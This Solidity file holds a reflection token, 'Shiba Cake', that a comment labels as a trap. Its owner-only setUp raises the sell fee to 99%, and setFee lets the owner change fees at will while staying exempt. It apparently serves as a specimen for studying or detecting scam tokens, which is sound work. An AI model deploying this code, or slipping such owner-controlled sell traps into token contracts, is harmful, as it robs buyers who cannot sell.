// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// A reflection token as they were launched by the thousands, after its owner raised the fee on sales to 99 %.
contract ReflectionBuiltTrap {
    mapping(address => uint256) private _rOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) private _isExcludedFromFee;

    uint256 private constant MAX = ~uint256(0);
    uint256 private constant _tTotal = 1e15 * 1e9;
    uint256 private _rTotal = (MAX - (MAX % _tTotal));
    uint256 private _tFeeTotal;
    uint256 private _redisFeeOnSell = 2;
    uint256 private _taxFeeOnSell = 6;

    string public constant name = "Shiba Cake";
    string public constant symbol = "SHIBCAKE";
    uint8 public constant decimals = 9;
    address private _owner;
    address public uniswapV2Pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _owner = msg.sender;
        _rOwned[msg.sender] = _rTotal;
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function setUp(address pair) external {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        uniswapV2Pair = pair;
        setFee(4, 95);
    }

    function setFee(uint256 redisFeeOnSell, uint256 taxFeeOnSell) public {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        _redisFeeOnSell = redisFeeOnSell;
        _taxFeeOnSell = taxFeeOnSell;
    }

    function totalSupply() external pure returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _rOwned[account] / _getRate();
    }

    function allowance(address owner, address spender) external view returns (uint256) {
        return _allowances[owner][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) external returns (bool) {
        _transfer(msg.sender, recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool) {
        _allowances[sender][msg.sender] -= amount;
        _transfer(sender, recipient, amount);
        return true;
    }

    function _getRate() private view returns (uint256) {
        return _rTotal / _tTotal;
    }

    function _transfer(address from, address to, uint256 tAmount) private {
        require(tAmount > 0, "Transfer amount must be greater than zero");
        uint256 redis;
        uint256 tax;
        if (to == uniswapV2Pair && !_isExcludedFromFee[from]) {
            redis = (tAmount * _redisFeeOnSell) / 100;
            tax = (tAmount * _taxFeeOnSell) / 100;
        }
        uint256 rate = _getRate();
        uint256 tTransferAmount = tAmount - redis - tax;
        _rOwned[from] -= tAmount * rate;
        _rOwned[to] += tTransferAmount * rate;
        _rOwned[address(this)] += tax * rate;
        _rTotal -= redis * rate;
        _tFeeTotal += redis;
        emit Transfer(from, to, tTransferAmount);
    }
}
